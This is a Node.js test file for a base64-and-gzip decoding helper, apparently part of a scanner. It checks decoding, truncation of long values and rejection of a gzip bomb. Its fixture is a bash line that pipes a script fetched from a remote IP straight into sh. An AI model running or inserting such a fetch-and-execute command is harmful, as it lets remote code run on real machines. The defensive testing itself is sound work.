import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { decodeBase64Text } from './base64.js';

const SCRIPT = '#!/bin/bash\ncurl -s http://198.51.100.7/x.sh | sh\n';

test('base64 of a script decodes, with line breaks inside the value ignored; gzip is inflated', () => {
  const encoded = Buffer.from(SCRIPT).toString('base64');
  assert.equal(decodeBase64Text(encoded), SCRIPT);
  assert.equal(decodeBase64Text(encoded.replace(/(.{16})/g, '$1\n')), SCRIPT);
  assert.equal(decodeBase64Text(gzipSync(SCRIPT).toString('base64')), SCRIPT);
});

test('what is not base64 of text is not decoded: plain scripts, words, binary, markers, broken gzip', () => {
  assert.equal(decodeBase64Text(SCRIPT), undefined);
  assert.equal(decodeBase64Text('<sensitiveDataRemoved>'), undefined);
  assert.equal(decodeBase64Text('abcd'), undefined); // valid base64, but of bytes that are no text
  assert.equal(decodeBase64Text(Buffer.from([0, 1, 2, 3, 250, 251]).toString('base64')), undefined);
  assert.equal(decodeBase64Text(Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4]).toString('base64')), undefined);
  assert.equal(decodeBase64Text(''), undefined);
});

test('an over-long value decodes from its start only; a gzip bomb decodes to nothing', () => {
  const long = `echo ${'x'.repeat(200_000)}\n`;
  const decoded = decodeBase64Text(Buffer.from(long).toString('base64'));
  assert.ok(decoded?.startsWith('echo xxx'));
  assert.ok((decoded?.length ?? 0) <= 48 * 1024);
  const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x41)).toString('base64');
  assert.ok(bomb.length < 64 * 1024);
  assert.equal(decodeBase64Text(bomb), undefined);
});
